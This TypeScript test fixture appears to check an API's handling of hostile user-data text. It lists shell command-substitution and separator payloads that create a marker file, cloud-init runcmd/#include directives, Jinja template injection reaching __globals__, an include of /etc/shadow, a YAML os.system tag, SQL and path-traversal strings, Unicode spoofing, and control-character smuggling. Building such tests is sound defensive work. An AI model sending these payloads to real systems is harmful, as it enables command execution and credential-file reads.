/** A text that somebody sends to do harm, or by mistake, with what the API must do with it. */
export interface HostileText {
  what: string;
  text: string;
  /** The rule that the answer has to name, or what is kept. */
  expected: { refused: string } | { kept: string };
}

/** All of these break one rule, of which the answer has to hold `rule`. */
export function refused(rule: string, texts: Record<string, string>): HostileText[] {
  return Object.entries(texts).map(([what, text]) => ({ what, text, expected: { refused: rule } }));
}

/** Nothing is wrong with these: they are kept as they came, and mean nothing to anybody on the way. */
export function kept(texts: Record<string, string>): HostileText[] {
  return Object.entries(texts).map(([what, text]) => ({ what, text, expected: { kept: text } }));
}

/** The file that every payload would make where it is run. */
export const MARKER = "/root/pwned";
const RUN = `touch ${MARKER}`;

/** Languages that something between the request and the guest understands, each trying to be run there. One line, printable, 200 characters at most. */
export const PAYLOADS: Record<string, string> = {
  "a command substitution": `$(${RUN})`,
  backticks: `\`${RUN}\``,
  "a shell separator": `; ${RUN};`,
  "a pipe": `| ${RUN} &`,
  "quotes that end a quote": `'; ${RUN}; '"; ${RUN}; "`,
  "a variable": `\${IFS}${RUN}`,
  "the format of printf": "%s%s%n%x",
  "a backslash at the end": `${RUN} \\`,
  "the escape of a newline": `\\n${RUN}\\r\\n`,
  "#cloud-config": `#cloud-config runcmd: [${RUN}]`,
  "#cloud-boothook": `#cloud-boothook ${RUN}`,
  "#!": `#!/bin/sh -c '${RUN}'`,
  "#include": "#include http://198.51.100.1/payload",
  "the header of Jinja": `## template: jinja`,
  "a Jinja expression": "{{ v1.instance_id }}",
  "a Jinja statement": `{% set x = self.__init__.__globals__ %}{{ x }}`,
  "a template of Incus": '{{ config_get("cloud-init.user-data", "") }}{% include "/etc/shadow" %}',
  "a YAML tag": `!!python/object/apply:os.system ["${RUN}"]`,
  "a YAML anchor": "&a [1]",
  "a YAML alias": "*a",
  "a YAML merge": "<<: *a",
  "a YAML key": `runcmd: ["${RUN}"]`,
  "a YAML block": `| ${RUN}`,
  "a YAML document": `--- runcmd: [${RUN}] ...`,
  "a MIME header": 'Content-Type: multipart/mixed; boundary="x"',
  "our MIME boundary": "--cloudnexus-user-data",
  HTML: "<script>alert(1)</script>&amp;",
  SQL: "'; DROP TABLE servers; --",
  "a path": "../../../../etc/passwd",
  "options of sshd behind the key": `command="${RUN}",no-pty`,
};

/** Printable, but not what it looks like. */
export const DISGUISES: Record<string, string> = {
  "a bidi override": "user\u202etxt.exe",
  "bidi isolates": "\u2066admin\u2069 \u2067nimda\u2069",
  "zero-width characters": "ad\u200bm\u200ci\u200dn",
  "a byte-order mark inside": "ad\ufeffmin",
  homoglyphs: "\u0430dmin",
  "fullwidth letters": "\uff41\uff44\uff4d\uff49\uff4e",
  "combining marks": `a${"\u0301".repeat(40)}`,
  "tag characters": "admin\u{e0061}\u{e007f}",
  "a no-character": "admin\uffff",
  "a soft hyphen": "ad\u00admin",
};

/** Not one printable line. */
export const UNPRINTABLES: Record<string, string> = {
  "a line end": `a\n${RUN}`,
  "CR and LF": `a\r\n${RUN}`,
  "a CR": `a\r${RUN}`,
  "a next-line (NEL)": `a\u0085${RUN}`,
  "a line separator": `a\u2028${RUN}`,
  "a paragraph separator": `a\u2029${RUN}`,
  "a vertical tab": "a\u000bb",
  "a form feed": "a\u000cb",
  "a tab": "a\tb",
  NUL: "a\u0000b",
  "a bell": "a\u0007b",
  "a backspace": "a\u0008b",
  "an escape sequence": "a\u001b]0;title\u0007\u001b[2Jb",
  DEL: "a\u007fb",
  "a C1 control": "a\u009b31mb",
  "half a surrogate pair": "a\ud800b",
  "the other half": "a\udc00b",
};

/** Those of a table that are accepted, with what is kept of each. */
export function keptTexts(table: HostileText[]): { what: string; kept: string }[] {
  return table.flatMap(({ what, expected }) => ("kept" in expected ? [{ what, kept: expected.kept }] : []));
}
